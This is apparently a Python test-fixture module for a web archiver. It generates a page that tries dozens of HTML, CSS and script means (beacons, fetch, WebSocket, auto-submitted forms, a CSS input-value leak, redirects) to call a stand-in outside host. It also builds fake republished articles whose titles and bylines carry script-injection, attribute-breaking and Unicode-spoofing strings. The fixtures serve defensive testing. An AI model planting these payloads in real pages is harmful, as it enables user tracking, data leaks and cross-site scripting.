"""Pages that are written against whoever looks at them: one that reaches out and acts by every means that markup has, and some whose
words are made to be taken for something else.

    REACHING               the page, and every name that it would be heard of by
    WORDS, web(), ...      words of each kind, and a republication whose title, byline, publisher, quotes and address are such words
"""

from __future__ import annotations

from collections.abc import Mapping
from html import escape
from random import Random
from urllib.parse import quote

from archiver.model.url import parse

#: Whatever is reached stands under this domain, each means under a name of its own, so that the name says which it was. A browser finds
#: such names on its own machine.
OUTSIDE = "outside.localhost"

#: What a script does where it is run: it marks the page and tells somebody. `{}` is the address of whom it tells.
_TELLS = "document.documentElement.dataset.ran=1;document.title='It ran';document.cookie='ran=1';new Image().src='{}'"

#: By which means a page reaches out, as it is opened: in its head, in its styles, and in its body.
_HEAD = {
    "icon": '<link rel=icon href="{}i.png">',
    "touch-icon": '<link rel="apple-touch-icon" href="{}t.png">',
    "manifest": '<link rel=manifest href="{}m.json">',
    "stylesheet": '<link rel=stylesheet href="{}s.css">',
    "preconnect": '<link rel=preconnect href="{}">',
    "preconnect-shouted": "<LiNk/rel='dns-prefetch preconnect'/href={}>",
    "preconnect-coded": '<link rel="&#112;reconnect" href="{}">',
    "dns-prefetch": '<link rel=dns-prefetch href="{}">',
    "prefetch": '<link rel=prefetch href="{}p">',
    "prerender": '<link rel=prerender href="{}p">',
    "preload": '<link rel=preload as=image href="{}p.png">',
    "modulepreload": '<link rel=modulepreload href="{}m.js">',
    "imagesrcset": '<link rel=preload as=image imagesrcset="{}a.png 1x, {}b.png 2x">',
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"urls":["{}"],"eagerness":"immediate"}}]}}</script>',
    "script-src": '<script src="{}s.js"></script>',
    "script-async": '<script async src="{}s.js"></script>',
    "script-inline": f"<script>{_TELLS}</script>",
    "module": f"<script type=module>{_TELLS}</script>",
    "module-import": '<script type=module>import "{}m.js"</script>',
    "import-map": '<script type=importmap>{{"imports":{{"a":"{}a.js"}}}}</script><script type=module>import "a"</script>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('{}')\"])))</script>",
    "fetch": "<script>fetch('{}',{{mode:'no-cors',keepalive:true}})</script>",
    "beacon": "<script>navigator.sendBeacon('{}','x')</script>",
    "socket": "<script>new WebSocket('{}'.replace('http','ws'))</script>",
    "peer": "<script>var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:'+new URL('{}').host}}]}});p.createDataChannel('x');"
    "p.createOffer().then(one=>p.setLocalDescription(one))</script>",
    "window-open": "<script>window.open('{}')</script>",
    "refresh": '<meta http-equiv=refresh content="1;url={}">',
    "base": '<base href="{}" target=_top><img src="relative.png">',
}  # fmt: skip
_STYLES = {
    "css-import": '@import "{}i.css";',
    "css-import-url": "@import url({}i.css) screen;",
    "css-font": "@font-face{{font-family:told;src:url({}f.woff2)}} h1{{font-family:told}}",
    "css-background": "body{{background:url({}b.png)}}",
    "css-cursor": "html{{cursor:url({}c.cur),auto}}",
    "css-list": "ul{{list-style-image:url({}l.png)}}",
    "css-content": "p::before{{content:url({}c.png)}}",
    "css-image-set": "h1{{background:image-set(url({}i.png) 1x)}}",
    "css-mask": "p{{mask:url({}m.svg#m)}}",
    "css-filter": "p{{filter:url({}f.svg#f)}}",
    "css-shape": "img{{shape-outside:url({}s.png);float:left}}",
    "css-leak": "input[value^=s]{{background:url({}s.png)}}",
    "css-visited": "a{{background:url({}v.png)}}",
}
_BODY = {
    "img": '<img src="{}i.png">',
    "img-srcset": '<img srcset="{}i.png 2x, {}j.png 1x">',
    "img-onerror": f'<img src=x: onerror="{_TELLS}">',
    "picture": '<picture><source srcset="{}p.png"><img></picture>',
    "image-in-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{}'/></svg>\">",
    "body-background": '<table background="{}b.png"><tr><td>a table</table>',
    "style-attribute": '<p style="background:url({}s.png)">a styled line</p>',
    "frame": '<iframe src="{}f.html"></iframe>',
    "frame-srcdoc": "<iframe srcdoc=\"<img src='{}'><script>top.document.title='It ran'</script>\"></iframe>",
    "frame-srcdoc-link": "<iframe SRCDOC\n= \"<link rel=preconnect href='{}'>\"></iframe>",
    "frame-script": "<iframe src=\"javascript:void(parent.document.title='It ran',new parent.Image().src='{}')\"></iframe>",
    "frame-data": "<iframe src=\"data:text/html,<link rel=preconnect href='{}'><img src='{}'>\"></iframe>",
    "object": '<object data="{}o.html"></object>',
    "object-pdf": '<object type="application/pdf" data="{}o.pdf"></object>',
    "embed": '<embed src="{}e.html">',
    "video": '<video src="{}v.mp4" autoplay muted></video>',
    "video-poster": '<video poster="{}p.png"></video>',
    "audio": '<audio src="{}a.mp3" autoplay preload=auto></audio>',
    "source": '<video autoplay muted><source src="{}v.webm"></video>',
    "track": '<video><track default src="{}t.vtt"></video>',
    "input-image": '<input type=image src="{}i.png">',
    "autofocus": f'<input value=secret autofocus onfocus="{_TELLS}">',
    "form-sent": "<form id=sent action='{}' method=post><input name=a></form><script>onload=()=>setTimeout(()=>sent.submit(),1400)</script>",
    "svg-image": '<svg><image href="{}s.png"/></svg>',
    "svg-use": '<svg><use href="{}u.svg#u"/></svg>',
    "svg-filter": '<svg><filter id=f><feImage href="{}f.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    "svg-script": f"<svg><script>{_TELLS}</script></svg>",
    "svg-script-href": '<svg><script href="{}s.js"></script></svg>',
    "svg-onload": f'<svg onload="{_TELLS}"></svg>',
    "svg-animate": f'<svg><rect><animate attributeName=x dur=1s onbegin="{_TELLS}"/></rect></svg>',
    "svg-style": '<svg><style>@import "{}s.css";</style></svg>',
    "details": f'<details open ontoggle="{_TELLS}"><summary>more</summary></details>',
    "animation": f'<style>@keyframes k{{{{}}}}</style><p style="animation:k 1ms" onanimationstart="{_TELLS}">moving</p>',
    "noscript": '<noscript><img src="{}n.png"><link rel=preconnect href="{}"></noscript>',
    "template": '<div><template shadowrootmode=open><link rel=preconnect href="{}"><img src="{}"></template></div>',
    "link-in-body": '<p><link rel=preconnect href="{}"></p>',
    "link-in-svg": '<svg><link rel=preconnect href="{}" /></svg>',
    "dialogs": "<script>addEventListener('beforeunload',e=>e.preventDefault());alert(1);confirm(2);prompt(3);new Image().src='{}'</script>",
    "download": "<script>var a=document.createElement('a');a.href='data:text/plain,x';a.download='x.txt';a.click();new Image().src='{}'</script>",
    "moved": "<script>addEventListener('load',()=>setTimeout(()=>{{top.location='{}'}},1700))</script>",
}  # fmt: skip
#: And by which, if it is pressed: by its id. The last one leaves the frame empty, where it may not go where it leads.
PRESSED = {
    "ping": '<a id=ping href="{}" ping="{}ping">a link that tells</a>',
    "top": '<a id=top href="{}" target=_top>out of the frame</a>',
    "blank": '<a id=blank href="{}" target=_blank rel=opener>a new window</a>',
    "take": '<a id=take href="{}" download>a file</a>',
    "script": "<a id=script href=\"javascript:document.title='It ran';new Image().src='{}'\">a script</a>",
    "form": '<form action="{}"><button id=form formaction="{}" formtarget=_blank>a button</button></form>',
    "same": '<a id=same href="{}" target=_self>a link</a>',
}

#: Of these an unprotected Chromium is not heard, and why. Others may be, or this one some day.
UNHEARD = {
    "css-filter": "only of one's own host", "svg-use": "only of one's own host", "track": "only of one's own host",
    "prerender": "is no more", "touch-icon": "on telephones alone", "peer": "asks nobody before there is another side",
    "image-in-data": "pictures load nothing", "noscript": "where scripts are off", "window-open": "without a click",
}  # fmt: skip

NAMES = frozenset((*_HEAD, *_STYLES, *_BODY))

TOLD = "A page that would tell."


def _at(name: str, markup: str, port: int) -> str:
    return markup.replace("{}", f"http://{name}.{OUTSIDE}:{port}/").replace("{{", "{").replace("}}", "}")


def reaching(port: int) -> str:
    """The page with all of it, if what is outside is at that port."""
    head, styles, body, links = (
        "\n".join(_at(*one, port) for one in part.items()) for part in (_HEAD, _STYLES, _BODY, PRESSED)
    )
    return (
        f"<!doctype html><html><head><meta charset=utf-8><title>Reaching</title>{head}\n"
        f"<style>{styles}</style></head>\n<body><h1>Reaching</h1><p id=told>{TOLD}</p><ul><li>one</ul>\n{links}\n{body}</body></html>"
    )


# ── words ──

#: What would show if it were taken for markup: elements that no page of ours has, and a script that marks the page.
_MARKUP = (
    "</title></textarea></script></style></svg>--><x-broken id=broken>\"'><script>document.documentElement.dataset.ran=1;alert(1)</script>"
    f"<img src=http://img.{OUTSIDE}/ onerror=alert(2)><a href=javascript:alert(3)>{{{{7*7}}}}{{% endraw %}}</a>&lt;b&gt; ]]> <!--"
)

#: Words of each kind that a page may be titled, signed and named with. Each begins with a letter that can be looked for.
WORDS: Mapping[str, str] = {
    "markup": f"Bold {_MARKUP}",
    "quotes": 'Quoted "double" \'single\' `tick` “curly” «guillemets» \\back\\slash %22 &quot; &#39; " onfocus=alert(4) autofocus x="',
    "turned": "Turned \u202edesrever\u202c \u2066apart\u2069 \u200ertl\u200f \u202bembedded \u2067never closed \u202dforced, and on",
    "hebrew": "המעבורת האחרונה אל האי (2024) יצאה לדרך 17:45",
    "arabic": "العبارة الأخيرة إلى الجزيرة، عام 2024 (C++) غادرت",
    "unseen": "Un\u200bseen\u200c \u200dand\u2060 \ufeffheaped Z"
    + "\u0301\u0316\u0489" * 60
    + "a\u00adl\u034fgo \U000e0041\U000e0042",
    "endless": "Endless" + "x" * 590,
    "long": "Long " + "words and more " * 39,
    "endless-10,000": "Endless" + "y" * 9_993,
    "long-10,000": "Long " + "words and no end " * 588,
}

#: Too long for any title, so that none is taken from the page: what a forged manifest may have all the same.
FORGED = ("endless-10,000", "long-10,000")

_VOCABULARY = (  # noqa: SIM905 - a line of words
    "harbour lantern ferry winter council bread island ledger orchard bridge miller county tide clock school letter village pilot heron"
    " flour garden river station baker window market roof signal boat evening morning meadow teacher parish kettle barley copper"
).split()


def sentence(kind: str) -> str:
    """Words that stand on the pages of a kind alone."""
    return " ".join(Random(kind).choices(_VOCABULARY, k=9))


def first_url(kind: str) -> str:
    """Where the words of a kind were published first."""
    return f"http://first-{_name(kind)}.example/story"


def copy_url(kind: str) -> str:
    """And where again: at an address that holds them."""
    return parse(f"http://copy-{_name(kind)}.example/story/{quote(WORDS[kind][:300], safe=_AS_THEY_ARE)}")


#: What an address may hold without being coded.
_AS_THEY_ARE = "!$()*,;:@'|<>\"`{}"


def _name(kind: str) -> str:
    return kind.replace(",", "")


def _page(kind: str, day: str, foot: str) -> str:
    words, chance = escape(WORDS[kind]), Random(kind + "text")
    text = "".join(f"<p>{' '.join(chance.choices(_VOCABULARY, k=40)).capitalize()}.</p>\n" for _ in range(5))
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{words}</title><meta property="og:site_name" content="{words}">'
        f'<meta name="author" content="{words}"><meta property="article:published_time" content="{day}T08:00:00+00:00"></head>\n'
        f"<body><main><article><h1>{words}</h1>\n<p>{sentence(kind).capitalize()}.</p>\n{text}{foot}</article></main></body></html>"
    )


def worded() -> dict[str, str]:
    """A page of each kind, and its republication, which says whence it comes and that it is the source itself."""
    pages = {}
    for kind, words in WORDS.items():
        said = escape(words)
        pages[first_url(kind)] = _page(kind, "2024-03-04", "")
        pages[copy_url(kind)] = _page(
            kind, "2024-03-06",
            f'<p><em>This article was originally published on <a href="{first_url(kind)}">{said}</a>.</em></p>\n'
            f"<p>The original source of this article is {said}</p>\n",
        )  # fmt: skip
    return pages
